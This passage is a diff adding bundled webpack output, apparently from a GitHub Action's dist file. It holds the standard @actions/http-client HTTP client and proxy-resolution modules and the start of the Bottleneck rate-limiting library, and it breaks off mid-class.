@@ -1,6 +1,2379 @@
 import { createRequire as __WEBPACK_EXTERNAL_createRequire } from "module";
 /******/ var __webpack_modules__ = ({
 
+/***/ 89659:
+/***/ (function(__unused_webpack_module, exports, __nccwpck_require__) {
+
+
+/* eslint-disable @typescript-eslint/no-explicit-any */
+var __createBinding = (this && this.__createBinding) || (Object.create ? (function(o, m, k, k2) {
+    if (k2 === undefined) k2 = k;
+    var desc = Object.getOwnPropertyDescriptor(m, k);
+    if (!desc || ("get" in desc ? !m.__esModule : desc.writable || desc.configurable)) {
+      desc = { enumerable: true, get: function() { return m[k]; } };
+    }
+    Object.defineProperty(o, k2, desc);
+}) : (function(o, m, k, k2) {
+    if (k2 === undefined) k2 = k;
+    o[k2] = m[k];
+}));
+var __setModuleDefault = (this && this.__setModuleDefault) || (Object.create ? (function(o, v) {
+    Object.defineProperty(o, "default", { enumerable: true, value: v });
+}) : function(o, v) {
+    o["default"] = v;
+});
+var __importStar = (this && this.__importStar) || (function () {
+    var ownKeys = function(o) {
+        ownKeys = Object.getOwnPropertyNames || function (o) {
+            var ar = [];
+            for (var k in o) if (Object.prototype.hasOwnProperty.call(o, k)) ar[ar.length] = k;
+            return ar;
+        };
+        return ownKeys(o);
+    };
+    return function (mod) {
+        if (mod && mod.__esModule) return mod;
+        var result = {};
+        if (mod != null) for (var k = ownKeys(mod), i = 0; i < k.length; i++) if (k[i] !== "default") __createBinding(result, mod, k[i]);
+        __setModuleDefault(result, mod);
+        return result;
+    };
+})();
+var __awaiter = (this && this.__awaiter) || function (thisArg, _arguments, P, generator) {
+    function adopt(value) { return value instanceof P ? value : new P(function (resolve) { resolve(value); }); }
+    return new (P || (P = Promise))(function (resolve, reject) {
+        function fulfilled(value) { try { step(generator.next(value)); } catch (e) { reject(e); } }
+        function rejected(value) { try { step(generator["throw"](value)); } catch (e) { reject(e); } }
+        function step(result) { result.done ? resolve(result.value) : adopt(result.value).then(fulfilled, rejected); }
+        step((generator = generator.apply(thisArg, _arguments || [])).next());
+    });
+};
+Object.defineProperty(exports, "__esModule", ({ value: true }));
+exports.HttpClient = exports.HttpClientResponse = exports.HttpClientError = exports.MediaTypes = exports.Headers = exports.HttpCodes = void 0;
+exports.getProxyUrl = getProxyUrl;
+exports.isHttps = isHttps;
+const http = __importStar(__nccwpck_require__(58611));
+const https = __importStar(__nccwpck_require__(65692));
+const pm = __importStar(__nccwpck_require__(83335));
+const tunnel = __importStar(__nccwpck_require__(20770));
+const undici_1 = __nccwpck_require__(46752);
+var HttpCodes;
+(function (HttpCodes) {
+    HttpCodes[HttpCodes["OK"] = 200] = "OK";
+    HttpCodes[HttpCodes["MultipleChoices"] = 300] = "MultipleChoices";
+    HttpCodes[HttpCodes["MovedPermanently"] = 301] = "MovedPermanently";
+    HttpCodes[HttpCodes["ResourceMoved"] = 302] = "ResourceMoved";
+    HttpCodes[HttpCodes["SeeOther"] = 303] = "SeeOther";
+    HttpCodes[HttpCodes["NotModified"] = 304] = "NotModified";
+    HttpCodes[HttpCodes["UseProxy"] = 305] = "UseProxy";
+    HttpCodes[HttpCodes["SwitchProxy"] = 306] = "SwitchProxy";
+    HttpCodes[HttpCodes["TemporaryRedirect"] = 307] = "TemporaryRedirect";
+    HttpCodes[HttpCodes["PermanentRedirect"] = 308] = "PermanentRedirect";
+    HttpCodes[HttpCodes["BadRequest"] = 400] = "BadRequest";
+    HttpCodes[HttpCodes["Unauthorized"] = 401] = "Unauthorized";
+    HttpCodes[HttpCodes["PaymentRequired"] = 402] = "PaymentRequired";
+    HttpCodes[HttpCodes["Forbidden"] = 403] = "Forbidden";
+    HttpCodes[HttpCodes["NotFound"] = 404] = "NotFound";
+    HttpCodes[HttpCodes["MethodNotAllowed"] = 405] = "MethodNotAllowed";
+    HttpCodes[HttpCodes["NotAcceptable"] = 406] = "NotAcceptable";
+    HttpCodes[HttpCodes["ProxyAuthenticationRequired"] = 407] = "ProxyAuthenticationRequired";
+    HttpCodes[HttpCodes["RequestTimeout"] = 408] = "RequestTimeout";
+    HttpCodes[HttpCodes["Conflict"] = 409] = "Conflict";
+    HttpCodes[HttpCodes["Gone"] = 410] = "Gone";
+    HttpCodes[HttpCodes["TooManyRequests"] = 429] = "TooManyRequests";
+    HttpCodes[HttpCodes["InternalServerError"] = 500] = "InternalServerError";
+    HttpCodes[HttpCodes["NotImplemented"] = 501] = "NotImplemented";
+    HttpCodes[HttpCodes["BadGateway"] = 502] = "BadGateway";
+    HttpCodes[HttpCodes["ServiceUnavailable"] = 503] = "ServiceUnavailable";
+    HttpCodes[HttpCodes["GatewayTimeout"] = 504] = "GatewayTimeout";
+})(HttpCodes || (exports.HttpCodes = HttpCodes = {}));
+var Headers;
+(function (Headers) {
+    Headers["Accept"] = "accept";
+    Headers["ContentType"] = "content-type";
+})(Headers || (exports.Headers = Headers = {}));
+var MediaTypes;
+(function (MediaTypes) {
+    MediaTypes["ApplicationJson"] = "application/json";
+})(MediaTypes || (exports.MediaTypes = MediaTypes = {}));
+/**
+ * Returns the proxy URL, depending upon the supplied url and proxy environment variables.
+ * @param serverUrl  The server URL where the request will be sent. For example, https://api.github.com
+ */
+function getProxyUrl(serverUrl) {
+    const proxyUrl = pm.getProxyUrl(new URL(serverUrl));
+    return proxyUrl ? proxyUrl.href : '';
+}
+const HttpRedirectCodes = [
+    HttpCodes.MovedPermanently,
+    HttpCodes.ResourceMoved,
+    HttpCodes.SeeOther,
+    HttpCodes.TemporaryRedirect,
+    HttpCodes.PermanentRedirect
+];
+const HttpResponseRetryCodes = [
+    HttpCodes.BadGateway,
+    HttpCodes.ServiceUnavailable,
+    HttpCodes.GatewayTimeout
+];
+const RetryableHttpVerbs = ['OPTIONS', 'GET', 'DELETE', 'HEAD'];
+const ExponentialBackoffCeiling = 10;
+const ExponentialBackoffTimeSlice = 5;
+class HttpClientError extends Error {
+    constructor(message, statusCode) {
+        super(message);
+        this.name = 'HttpClientError';
+        this.statusCode = statusCode;
+        Object.setPrototypeOf(this, HttpClientError.prototype);
+    }
+}
+exports.HttpClientError = HttpClientError;
+class HttpClientResponse {
+    constructor(message) {
+        this.message = message;
+    }
+    readBody() {
+        return __awaiter(this, void 0, void 0, function* () {
+            return new Promise((resolve) => __awaiter(this, void 0, void 0, function* () {
+                let output = Buffer.alloc(0);
+                this.message.on('data', (chunk) => {
+                    output = Buffer.concat([output, chunk]);
+                });
+                this.message.on('end', () => {
+                    resolve(output.toString());
+                });
+            }));
+        });
+    }
+    readBodyBuffer() {
+        return __awaiter(this, void 0, void 0, function* () {
+            return new Promise((resolve) => __awaiter(this, void 0, void 0, function* () {
+                const chunks = [];
+                this.message.on('data', (chunk) => {
+                    chunks.push(chunk);
+                });
+                this.message.on('end', () => {
+                    resolve(Buffer.concat(chunks));
+                });
+            }));
+        });
+    }
+}
+exports.HttpClientResponse = HttpClientResponse;
+function isHttps(requestUrl) {
+    const parsedUrl = new URL(requestUrl);
+    return parsedUrl.protocol === 'https:';
+}
+class HttpClient {
+    constructor(userAgent, handlers, requestOptions) {
+        this._ignoreSslError = false;
+        this._allowRedirects = true;
+        this._allowRedirectDowngrade = false;
+        this._maxRedirects = 50;
+        this._allowRetries = false;
+        this._maxRetries = 1;
+        this._keepAlive = false;
+        this._disposed = false;
+        this.userAgent = this._getUserAgentWithOrchestrationId(userAgent);
+        this.handlers = handlers || [];
+        this.requestOptions = requestOptions;
+        if (requestOptions) {
+            if (requestOptions.ignoreSslError != null) {
+                this._ignoreSslError = requestOptions.ignoreSslError;
+            }
+            this._socketTimeout = requestOptions.socketTimeout;
+            if (requestOptions.allowRedirects != null) {
+                this._allowRedirects = requestOptions.allowRedirects;
+            }
+            if (requestOptions.allowRedirectDowngrade != null) {
+                this._allowRedirectDowngrade = requestOptions.allowRedirectDowngrade;
+            }
+            if (requestOptions.maxRedirects != null) {
+                this._maxRedirects = Math.max(requestOptions.maxRedirects, 0);
+            }
+            if (requestOptions.keepAlive != null) {
+                this._keepAlive = requestOptions.keepAlive;
+            }
+            if (requestOptions.allowRetries != null) {
+                this._allowRetries = requestOptions.allowRetries;
+            }
+            if (requestOptions.maxRetries != null) {
+                this._maxRetries = requestOptions.maxRetries;
+            }
+        }
+    }
+    options(requestUrl, additionalHeaders) {
+        return __awaiter(this, void 0, void 0, function* () {
+            return this.request('OPTIONS', requestUrl, null, additionalHeaders || {});
+        });
+    }
+    get(requestUrl, additionalHeaders) {
+        return __awaiter(this, void 0, void 0, function* () {
+            return this.request('GET', requestUrl, null, additionalHeaders || {});
+        });
+    }
+    del(requestUrl, additionalHeaders) {
+        return __awaiter(this, void 0, void 0, function* () {
+            return this.request('DELETE', requestUrl, null, additionalHeaders || {});
+        });
+    }
+    post(requestUrl, data, additionalHeaders) {
+        return __awaiter(this, void 0, void 0, function* () {
+            return this.request('POST', requestUrl, data, additionalHeaders || {});
+        });
+    }
+    patch(requestUrl, data, additionalHeaders) {
+        return __awaiter(this, void 0, void 0, function* () {
+            return this.request('PATCH', requestUrl, data, additionalHeaders || {});
+        });
+    }
+    put(requestUrl, data, additionalHeaders) {
+        return __awaiter(this, void 0, void 0, function* () {
+            return this.request('PUT', requestUrl, data, additionalHeaders || {});
+        });
+    }
+    head(requestUrl, additionalHeaders) {
+        return __awaiter(this, void 0, void 0, function* () {
+            return this.request('HEAD', requestUrl, null, additionalHeaders || {});
+        });
+    }
+    sendStream(verb, requestUrl, stream, additionalHeaders) {
+        return __awaiter(this, void 0, void 0, function* () {
+            return this.request(verb, requestUrl, stream, additionalHeaders);
+        });
+    }
+    /**
+     * Gets a typed object from an endpoint
+     * Be aware that not found returns a null.  Other errors (4xx, 5xx) reject the promise
+     */
+    getJson(requestUrl_1) {
+        return __awaiter(this, arguments, void 0, function* (requestUrl, additionalHeaders = {}) {
+            additionalHeaders[Headers.Accept] = this._getExistingOrDefaultHeader(additionalHeaders, Headers.Accept, MediaTypes.ApplicationJson);
+            const res = yield this.get(requestUrl, additionalHeaders);
+            return this._processResponse(res, this.requestOptions);
+        });
+    }
+    postJson(requestUrl_1, obj_1) {
+        return __awaiter(this, arguments, void 0, function* (requestUrl, obj, additionalHeaders = {}) {
+            const data = JSON.stringify(obj, null, 2);
+            additionalHeaders[Headers.Accept] = this._getExistingOrDefaultHeader(additionalHeaders, Headers.Accept, MediaTypes.ApplicationJson);
+            additionalHeaders[Headers.ContentType] =
+                this._getExistingOrDefaultContentTypeHeader(additionalHeaders, MediaTypes.ApplicationJson);
+            const res = yield this.post(requestUrl, data, additionalHeaders);
+            return this._processResponse(res, this.requestOptions);
+        });
+    }
+    putJson(requestUrl_1, obj_1) {
+        return __awaiter(this, arguments, void 0, function* (requestUrl, obj, additionalHeaders = {}) {
+            const data = JSON.stringify(obj, null, 2);
+            additionalHeaders[Headers.Accept] = this._getExistingOrDefaultHeader(additionalHeaders, Headers.Accept, MediaTypes.ApplicationJson);
+            additionalHeaders[Headers.ContentType] =
+                this._getExistingOrDefaultContentTypeHeader(additionalHeaders, MediaTypes.ApplicationJson);
+            const res = yield this.put(requestUrl, data, additionalHeaders);
+            return this._processResponse(res, this.requestOptions);
+        });
+    }
+    patchJson(requestUrl_1, obj_1) {
+        return __awaiter(this, arguments, void 0, function* (requestUrl, obj, additionalHeaders = {}) {
+            const data = JSON.stringify(obj, null, 2);
+            additionalHeaders[Headers.Accept] = this._getExistingOrDefaultHeader(additionalHeaders, Headers.Accept, MediaTypes.ApplicationJson);
+            additionalHeaders[Headers.ContentType] =
+                this._getExistingOrDefaultContentTypeHeader(additionalHeaders, MediaTypes.ApplicationJson);
+            const res = yield this.patch(requestUrl, data, additionalHeaders);
+            return this._processResponse(res, this.requestOptions);
+        });
+    }
+    /**
+     * Makes a raw http request.
+     * All other methods such as get, post, patch, and request ultimately call this.
+     * Prefer get, del, post and patch
+     */
+    request(verb, requestUrl, data, headers) {
+        return __awaiter(this, void 0, void 0, function* () {
+            if (this._disposed) {
+                throw new Error('Client has already been disposed.');
+            }
+            const parsedUrl = new URL(requestUrl);
+            let info = this._prepareRequest(verb, parsedUrl, headers);
+            // Only perform retries on reads since writes may not be idempotent.
+            const maxTries = this._allowRetries && RetryableHttpVerbs.includes(verb)
+                ? this._maxRetries + 1
+                : 1;
+            let numTries = 0;
+            let response;
+            do {
+                response = yield this.requestRaw(info, data);
+                // Check if it's an authentication challenge
+                if (response &&
+                    response.message &&
+                    response.message.statusCode === HttpCodes.Unauthorized) {
+                    let authenticationHandler;
+                    for (const handler of this.handlers) {
+                        if (handler.canHandleAuthentication(response)) {
+                            authenticationHandler = handler;
+                            break;
+                        }
+                    }
+                    if (authenticationHandler) {
+                        return authenticationHandler.handleAuthentication(this, info, data);
+                    }
+                    else {
+                        // We have received an unauthorized response but have no handlers to handle it.
+                        // Let the response return to the caller.
+                        return response;
+                    }
+                }
+                let redirectsRemaining = this._maxRedirects;
+                while (response.message.statusCode &&
+                    HttpRedirectCodes.includes(response.message.statusCode) &&
+                    this._allowRedirects &&
+                    redirectsRemaining > 0) {
+                    const redirectUrl = response.message.headers['location'];
+                    if (!redirectUrl) {
+                        // if there's no location to redirect to, we won't
+                        break;
+                    }
+                    const parsedRedirectUrl = new URL(redirectUrl);
+                    if (parsedUrl.protocol === 'https:' &&
+                        parsedUrl.protocol !== parsedRedirectUrl.protocol &&
+                        !this._allowRedirectDowngrade) {
+                        throw new Error('Redirect from HTTPS to HTTP protocol. This downgrade is not allowed for security reasons. If you want to allow this behavior, set the allowRedirectDowngrade option to true.');
+                    }
+                    // we need to finish reading the response before reassigning response
+                    // which will leak the open socket.
+                    yield response.readBody();
+                    // strip authorization header if redirected to a different hostname
+                    if (parsedRedirectUrl.hostname !== parsedUrl.hostname) {
+                        for (const header in headers) {
+                            // header names are case insensitive
+                            if (header.toLowerCase() === 'authorization') {
+                                delete headers[header];
+                            }
+                        }
+                    }
+                    // let's make the request with the new redirectUrl
+                    info = this._prepareRequest(verb, parsedRedirectUrl, headers);
+                    response = yield this.requestRaw(info, data);
+                    redirectsRemaining--;
+                }
+                if (!response.message.statusCode ||
+                    !HttpResponseRetryCodes.includes(response.message.statusCode)) {
+                    // If not a retry code, return immediately instead of retrying
+                    return response;
+                }
+                numTries += 1;
+                if (numTries < maxTries) {
+                    yield response.readBody();
+                    yield this._performExponentialBackoff(numTries);
+                }
+            } while (numTries < maxTries);
+            return response;
+        });
+    }
+    /**
+     * Needs to be called if keepAlive is set to true in request options.
+     */
+    dispose() {
+        if (this._agent) {
+            this._agent.destroy();
+        }
+        this._disposed = true;
+    }
+    /**
+     * Raw request.
+     * @param info
+     * @param data
+     */
+    requestRaw(info, data) {
+        return __awaiter(this, void 0, void 0, function* () {
+            return new Promise((resolve, reject) => {
+                function callbackForResult(err, res) {
+                    if (err) {
+                        reject(err);
+                    }
+                    else if (!res) {
+                        // If `err` is not passed, then `res` must be passed.
+                        reject(new Error('Unknown error'));
+                    }
+                    else {
+                        resolve(res);
+                    }
+                }
+                this.requestRawWithCallback(info, data, callbackForResult);
+            });
+        });
+    }
+    /**
+     * Raw request with callback.
+     * @param info
+     * @param data
+     * @param onResult
+     */
+    requestRawWithCallback(info, data, onResult) {
+        if (typeof data === 'string') {
+            if (!info.options.headers) {
+                info.options.headers = {};
+            }
+            info.options.headers['Content-Length'] = Buffer.byteLength(data, 'utf8');
+        }
+        let callbackCalled = false;
+        function handleResult(err, res) {
+            if (!callbackCalled) {
+                callbackCalled = true;
+                onResult(err, res);
+            }
+        }
+        const req = info.httpModule.request(info.options, (msg) => {
+            const res = new HttpClientResponse(msg);
+            handleResult(undefined, res);
+        });
+        let socket;
+        req.on('socket', sock => {
+            socket = sock;
+        });
+        // If we ever get disconnected, we want the socket to timeout eventually
+        req.setTimeout(this._socketTimeout || 3 * 60000, () => {
+            if (socket) {
+                socket.end();
+            }
+            handleResult(new Error(`Request timeout: ${info.options.path}`));
+        });
+        req.on('error', function (err) {
+            // err has statusCode property
+            // res should have headers
+            handleResult(err);
+        });
+        if (data && typeof data === 'string') {
+            req.write(data, 'utf8');
+        }
+        if (data && typeof data !== 'string') {
+            data.on('close', function () {
+                req.end();
+            });
+            data.pipe(req);
+        }
+        else {
+            req.end();
+        }
+    }
+    /**
+     * Gets an http agent. This function is useful when you need an http agent that handles
+     * routing through a proxy server - depending upon the url and proxy environment variables.
+     * @param serverUrl  The server URL where the request will be sent. For example, https://api.github.com
+     */
+    getAgent(serverUrl) {
+        const parsedUrl = new URL(serverUrl);
+        return this._getAgent(parsedUrl);
+    }
+    getAgentDispatcher(serverUrl) {
+        const parsedUrl = new URL(serverUrl);
+        const proxyUrl = pm.getProxyUrl(parsedUrl);
+        const useProxy = proxyUrl && proxyUrl.hostname;
+        if (!useProxy) {
+            return;
+        }
+        return this._getProxyAgentDispatcher(parsedUrl, proxyUrl);
+    }
+    _prepareRequest(method, requestUrl, headers) {
+        const info = {};
+        info.parsedUrl = requestUrl;
+        const usingSsl = info.parsedUrl.protocol === 'https:';
+        info.httpModule = usingSsl ? https : http;
+        const defaultPort = usingSsl ? 443 : 80;
+        info.options = {};
+        info.options.host = info.parsedUrl.hostname;
+        info.options.port = info.parsedUrl.port
+            ? parseInt(info.parsedUrl.port)
+            : defaultPort;
+        info.options.path =
+            (info.parsedUrl.pathname || '') + (info.parsedUrl.search || '');
+        info.options.method = method;
+        info.options.headers = this._mergeHeaders(headers);
+        if (this.userAgent != null) {
+            info.options.headers['user-agent'] = this.userAgent;
+        }
+        info.options.agent = this._getAgent(info.parsedUrl);
+        // gives handlers an opportunity to participate
+        if (this.handlers) {
+            for (const handler of this.handlers) {
+                handler.prepareRequest(info.options);
+            }
+        }
+        return info;
+    }
+    _mergeHeaders(headers) {
+        if (this.requestOptions && this.requestOptions.headers) {
+            return Object.assign({}, lowercaseKeys(this.requestOptions.headers), lowercaseKeys(headers || {}));
+        }
+        return lowercaseKeys(headers || {});
+    }
+    /**
+     * Gets an existing header value or returns a default.
+     * Handles converting number header values to strings since HTTP headers must be strings.
+     * Note: This returns string | string[] since some headers can have multiple values.
+     * For headers that must always be a single string (like Content-Type), use the
+     * specialized _getExistingOrDefaultContentTypeHeader method instead.
+     */
+    _getExistingOrDefaultHeader(additionalHeaders, header, _default) {
+        let clientHeader;
+        if (this.requestOptions && this.requestOptions.headers) {
+            const headerValue = lowercaseKeys(this.requestOptions.headers)[header];
+            if (headerValue) {
+                clientHeader =
+                    typeof headerValue === 'number' ? headerValue.toString() : headerValue;
+            }
+        }
+        const additionalValue = additionalHeaders[header];
+        if (additionalValue !== undefined) {
+            return typeof additionalValue === 'number'
+                ? additionalValue.toString()
+                : additionalValue;
+        }
+        if (clientHeader !== undefined) {
+            return clientHeader;
+        }
+        return _default;
+    }
+    /**
+     * Specialized version of _getExistingOrDefaultHeader for Content-Type header.
+     * Always returns a single string (not an array) since Content-Type should be a single value.
+     * Converts arrays to comma-separated strings and numbers to strings to ensure type safety.
+     * This was split from _getExistingOrDefaultHeader to provide stricter typing for callers
+     * that assign the result to places expecting a string (e.g., additionalHeaders[Headers.ContentType]).
+     */
+    _getExistingOrDefaultContentTypeHeader(additionalHeaders, _default) {
+        let clientHeader;
+        if (this.requestOptions && this.requestOptions.headers) {
+            const headerValue = lowercaseKeys(this.requestOptions.headers)[Headers.ContentType];
+            if (headerValue) {
+                if (typeof headerValue === 'number') {
+                    clientHeader = String(headerValue);
+                }
+                else if (Array.isArray(headerValue)) {
+                    clientHeader = headerValue.join(', ');
+                }
+                else {
+                    clientHeader = headerValue;
+                }
+            }
+        }
+        const additionalValue = additionalHeaders[Headers.ContentType];
+        // Return the first non-undefined value, converting numbers or arrays to strings if necessary
+        if (additionalValue !== undefined) {
+            if (typeof additionalValue === 'number') {
+                return String(additionalValue);
+            }
+            else if (Array.isArray(additionalValue)) {
+                return additionalValue.join(', ');
+            }
+            else {
+                return additionalValue;
+            }
+        }
+        if (clientHeader !== undefined) {
+            return clientHeader;
+        }
+        return _default;
+    }
+    _getAgent(parsedUrl) {
+        let agent;
+        const proxyUrl = pm.getProxyUrl(parsedUrl);
+        const useProxy = proxyUrl && proxyUrl.hostname;
+        if (this._keepAlive && useProxy) {
+            agent = this._proxyAgent;
+        }
+        if (!useProxy) {
+            agent = this._agent;
+        }
+        // if agent is already assigned use that agent.
+        if (agent) {
+            return agent;
+        }
+        const usingSsl = parsedUrl.protocol === 'https:';
+        let maxSockets = 100;
+        if (this.requestOptions) {
+            maxSockets = this.requestOptions.maxSockets || http.globalAgent.maxSockets;
+        }
+        // This is `useProxy` again, but we need to check `proxyURl` directly for TypeScripts's flow analysis.
+        if (proxyUrl && proxyUrl.hostname) {
+            const agentOptions = {
+                maxSockets,
+                keepAlive: this._keepAlive,
+                proxy: Object.assign(Object.assign({}, ((proxyUrl.username || proxyUrl.password) && {
+                    proxyAuth: `${proxyUrl.username}:${proxyUrl.password}`
+                })), { host: proxyUrl.hostname, port: proxyUrl.port })
+            };
+            let tunnelAgent;
+            const overHttps = proxyUrl.protocol === 'https:';
+            if (usingSsl) {
+                tunnelAgent = overHttps ? tunnel.httpsOverHttps : tunnel.httpsOverHttp;
+            }
+            else {
+                tunnelAgent = overHttps ? tunnel.httpOverHttps : tunnel.httpOverHttp;
+            }
+            agent = tunnelAgent(agentOptions);
+            this._proxyAgent = agent;
+        }
+        // if tunneling agent isn't assigned create a new agent
+        if (!agent) {
+            const options = { keepAlive: this._keepAlive, maxSockets };
+            agent = usingSsl ? new https.Agent(options) : new http.Agent(options);
+            this._agent = agent;
+        }
+        if (usingSsl && this._ignoreSslError) {
+            // we don't want to set NODE_TLS_REJECT_UNAUTHORIZED=0 since that will affect request for entire process
+            // http.RequestOptions doesn't expose a way to modify RequestOptions.agent.options
+            // we have to cast it to any and change it directly
+            agent.options = Object.assign(agent.options || {}, {
+                rejectUnauthorized: false
+            });
+        }
+        return agent;
+    }
+    _getProxyAgentDispatcher(parsedUrl, proxyUrl) {
+        let proxyAgent;
+        if (this._keepAlive) {
+            proxyAgent = this._proxyAgentDispatcher;
+        }
+        // if agent is already assigned use that agent.
+        if (proxyAgent) {
+            return proxyAgent;
+        }
+        const usingSsl = parsedUrl.protocol === 'https:';
+        proxyAgent = new undici_1.ProxyAgent(Object.assign({ uri: proxyUrl.href, pipelining: !this._keepAlive ? 0 : 1 }, ((proxyUrl.username || proxyUrl.password) && {
+            token: `Basic ${Buffer.from(`${proxyUrl.username}:${proxyUrl.password}`).toString('base64')}`
+        })));
+        this._proxyAgentDispatcher = proxyAgent;
+        if (usingSsl && this._ignoreSslError) {
+            // we don't want to set NODE_TLS_REJECT_UNAUTHORIZED=0 since that will affect request for entire process
+            // http.RequestOptions doesn't expose a way to modify RequestOptions.agent.options
+            // we have to cast it to any and change it directly
+            proxyAgent.options = Object.assign(proxyAgent.options.requestTls || {}, {
+                rejectUnauthorized: false
+            });
+        }
+        return proxyAgent;
+    }
+    _getUserAgentWithOrchestrationId(userAgent) {
+        const baseUserAgent = userAgent || 'actions/http-client';
+        const orchId = process.env['ACTIONS_ORCHESTRATION_ID'];
+        if (orchId) {
+            // Sanitize the orchestration ID to ensure it contains only valid characters
+            // Valid characters: 0-9, a-z, _, -, .
+            const sanitizedId = orchId.replace(/[^a-z0-9_.-]/gi, '_');
+            return `${baseUserAgent} actions_orchestration_id/${sanitizedId}`;
+        }
+        return baseUserAgent;
+    }
+    _performExponentialBackoff(retryNumber) {
+        return __awaiter(this, void 0, void 0, function* () {
+            retryNumber = Math.min(ExponentialBackoffCeiling, retryNumber);
+            const ms = ExponentialBackoffTimeSlice * Math.pow(2, retryNumber);
+            return new Promise(resolve => setTimeout(() => resolve(), ms));
+        });
+    }
+    _processResponse(res, options) {
+        return __awaiter(this, void 0, void 0, function* () {
+            return new Promise((resolve, reject) => __awaiter(this, void 0, void 0, function* () {
+                const statusCode = res.message.statusCode || 0;
+                const response = {
+                    statusCode,
+                    result: null,
+                    headers: {}
+                };
+                // not found leads to null obj returned
+                if (statusCode === HttpCodes.NotFound) {
+                    resolve(response);
+                }
+                // get the result from the body
+                function dateTimeDeserializer(key, value) {
+                    if (typeof value === 'string') {
+                        const a = new Date(value);
+                        if (!isNaN(a.valueOf())) {
+                            return a;
+                        }
+                    }
+                    return value;
+                }
+                let obj;
+                let contents;
+                try {
+                    contents = yield res.readBody();
+                    if (contents && contents.length > 0) {
+                        if (options && options.deserializeDates) {
+                            obj = JSON.parse(contents, dateTimeDeserializer);
+                        }
+                        else {
+                            obj = JSON.parse(contents);
+                        }
+                        response.result = obj;
+                    }
+                    response.headers = res.message.headers;
+                }
+                catch (err) {
+                    // Invalid resource (contents not json);  leaving result obj null
+                }
+                // note that 3xx redirects are handled by the http layer.
+                if (statusCode > 299) {
+                    let msg;
+                    // if exception/error in body, attempt to get better error
+                    if (obj && obj.message) {
+                        msg = obj.message;
+                    }
+                    else if (contents && contents.length > 0) {
+                        // it may be the case that the exception is in the body message as string
+                        msg = contents;
+                    }
+                    else {
+                        msg = `Failed request: (${statusCode})`;
+                    }
+                    const err = new HttpClientError(msg, statusCode);
+                    err.result = response.result;
+                    reject(err);
+                }
+                else {
+                    resolve(response);
+                }
+            }));
+        });
+    }
+}
+exports.HttpClient = HttpClient;
+const lowercaseKeys = (obj) => Object.keys(obj).reduce((c, k) => ((c[k.toLowerCase()] = obj[k]), c), {});
+//# sourceMappingURL=index.js.map
+
+/***/ }),
+
+/***/ 83335:
+/***/ ((__unused_webpack_module, exports) => {
+
+
+Object.defineProperty(exports, "__esModule", ({ value: true }));
+exports.getProxyUrl = getProxyUrl;
+exports.checkBypass = checkBypass;
+function getProxyUrl(reqUrl) {
+    const usingSsl = reqUrl.protocol === 'https:';
+    if (checkBypass(reqUrl)) {
+        return undefined;
+    }
+    const proxyVar = (() => {
+        if (usingSsl) {
+            return process.env['https_proxy'] || process.env['HTTPS_PROXY'];
+        }
+        else {
+            return process.env['http_proxy'] || process.env['HTTP_PROXY'];
+        }
+    })();
+    if (proxyVar) {
+        try {
+            return new DecodedURL(proxyVar);
+        }
+        catch (_a) {
+            if (!proxyVar.startsWith('http://') && !proxyVar.startsWith('https://'))
+                return new DecodedURL(`http://${proxyVar}`);
+        }
+    }
+    else {
+        return undefined;
+    }
+}
+function checkBypass(reqUrl) {
+    if (!reqUrl.hostname) {
+        return false;
+    }
+    const reqHost = reqUrl.hostname;
+    if (isLoopbackAddress(reqHost)) {
+        return true;
+    }
+    const noProxy = process.env['no_proxy'] || process.env['NO_PROXY'] || '';
+    if (!noProxy) {
+        return false;
+    }
+    // Determine the request port
+    let reqPort;
+    if (reqUrl.port) {
+        reqPort = Number(reqUrl.port);
+    }
+    else if (reqUrl.protocol === 'http:') {
+        reqPort = 80;
+    }
+    else if (reqUrl.protocol === 'https:') {
+        reqPort = 443;
+    }
+    // Format the request hostname and hostname with port
+    const upperReqHosts = [reqUrl.hostname.toUpperCase()];
+    if (typeof reqPort === 'number') {
+        upperReqHosts.push(`${upperReqHosts[0]}:${reqPort}`);
+    }
+    // Compare request host against noproxy
+    for (const upperNoProxyItem of noProxy
+        .split(',')
+        .map(x => x.trim().toUpperCase())
+        .filter(x => x)) {
+        if (upperNoProxyItem === '*' ||
+            upperReqHosts.some(x => x === upperNoProxyItem ||
+                x.endsWith(`.${upperNoProxyItem}`) ||
+                (upperNoProxyItem.startsWith('.') &&
+                    x.endsWith(`${upperNoProxyItem}`)))) {
+            return true;
+        }
+    }
+    return false;
+}
+function isLoopbackAddress(host) {
+    const hostLower = host.toLowerCase();
+    return (hostLower === 'localhost' ||
+        hostLower.startsWith('127.') ||
+        hostLower.startsWith('[::1]') ||
+        hostLower.startsWith('[0:0:0:0:0:0:0:1]'));
+}
+class DecodedURL extends URL {
+    constructor(url, base) {
+        super(url, base);
+        this._decodedUsername = decodeURIComponent(super.username);
+        this._decodedPassword = decodeURIComponent(super.password);
+    }
+    get username() {
+        return this._decodedUsername;
+    }
+    get password() {
+        return this._decodedPassword;
+    }
+}
+//# sourceMappingURL=proxy.js.map
+
+/***/ }),
+
+/***/ 63251:
+/***/ (function(module) {
+
+/**
+  * This file contains the Bottleneck library (MIT), compiled to ES2017, and without Clustering support.
+  * https://github.com/SGrondin/bottleneck
+  */
+(function (global, factory) {
+	 true ? module.exports = factory() :
+	0;
+}(this, (function () { 'use strict';
+
+	var commonjsGlobal = typeof globalThis !== 'undefined' ? globalThis : typeof window !== 'undefined' ? window : typeof global !== 'undefined' ? global : typeof self !== 'undefined' ? self : {};
+
+	function getCjsExportFromNamespace (n) {
+		return n && n['default'] || n;
+	}
+
+	var load = function(received, defaults, onto = {}) {
+	  var k, ref, v;
+	  for (k in defaults) {
+	    v = defaults[k];
+	    onto[k] = (ref = received[k]) != null ? ref : v;
+	  }
+	  return onto;
+	};
+
+	var overwrite = function(received, defaults, onto = {}) {
+	  var k, v;
+	  for (k in received) {
+	    v = received[k];
+	    if (defaults[k] !== void 0) {
+	      onto[k] = v;
+	    }
+	  }
+	  return onto;
+	};
+
+	var parser = {
+		load: load,
+		overwrite: overwrite
+	};
+
+	var DLList;
+
+	DLList = class DLList {
+	  constructor(incr, decr) {
+	    this.incr = incr;
+	    this.decr = decr;
+	    this._first = null;
+	    this._last = null;
+	    this.length = 0;
+	  }
+
+	  push(value) {
+	    var node;
+	    this.length++;
+	    if (typeof this.incr === "function") {
+	      this.incr();
+	    }
+	    node = {
+	      value,
+	      prev: this._last,
+	      next: null
+	    };
+	    if (this._last != null) {
+	      this._last.next = node;
+	      this._last = node;
+	    } else {
+	      this._first = this._last = node;
+	    }
+	    return void 0;
+	  }
+
+	  shift() {
+	    var value;
+	    if (this._first == null) {
+	      return;
+	    } else {
+	      this.length--;
+	      if (typeof this.decr === "function") {
+	        this.decr();
